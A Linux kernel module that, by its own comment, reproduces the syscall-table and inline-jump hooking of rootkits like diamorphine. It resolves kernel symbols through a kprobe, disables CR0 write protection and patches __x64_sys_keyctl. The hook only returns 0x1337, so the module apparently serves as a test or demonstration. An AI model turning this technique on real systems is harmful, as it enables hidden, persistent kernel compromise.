// SPDX-License-Identifier: GPL-2.0
/*
 * A rootkit as found in the wild (diamorphine, reptile, suterusu): finds the system-call table by a kprobe on
 * kallsyms_lookup_name, clears CR0.WP and puts its own function in. Since Linux dispatches by a switch (6.1.85, 6.9) the
 * table is not enough, so that, like their present ports, it also writes a jump over the function itself.
 */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/string.h>
#include <linux/syscalls.h>

#define NUMBER __NR_keyctl

static long hooked(const struct pt_regs *regs)
{
	return 0x1337;
}

static u8 *victim;
static unsigned long *table;
static unsigned long original;
static u8 bytes[12];

static void set_cr0(unsigned long value)
{
	asm volatile("mov %0, %%cr0" : : "r"(value) : "memory");
}

static int __init table_hook_init(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *), cr0 = native_read_cr0();
	u8 jump[12] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0 };
	unsigned long target = (unsigned long)hooked;
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	/* The symbol may be followed by ENDBR, which a kprobe skips. */
	if (*(u32 *)((u8 *)lookup - 4) == 0xfa1e0ff3)
		lookup = (void *)((u8 *)lookup - 4);
	table = (unsigned long *)lookup("sys_call_table");
	victim = (u8 *)lookup("__x64_sys_keyctl");
	if (!table || !victim)
		return -ENOENT;
	memcpy(jump + 2, &target, 8);
	memcpy(bytes, victim, sizeof(bytes));
	original = table[NUMBER];
	set_cr0(cr0 & ~X86_CR0_WP);
	table[NUMBER] = target;
	memcpy(victim, jump, sizeof(jump));
	set_cr0(cr0);
	return 0;
}

static void __exit table_hook_exit(void)
{
	unsigned long cr0 = native_read_cr0();

	set_cr0(cr0 & ~X86_CR0_WP);
	table[NUMBER] = original;
	memcpy(victim, bytes, sizeof(bytes));
	set_cr0(cr0);
}

module_init(table_hook_init);
module_exit(table_hook_exit);
MODULE_DESCRIPTION("Hooks a system call by its table");
MODULE_LICENSE("GPL");
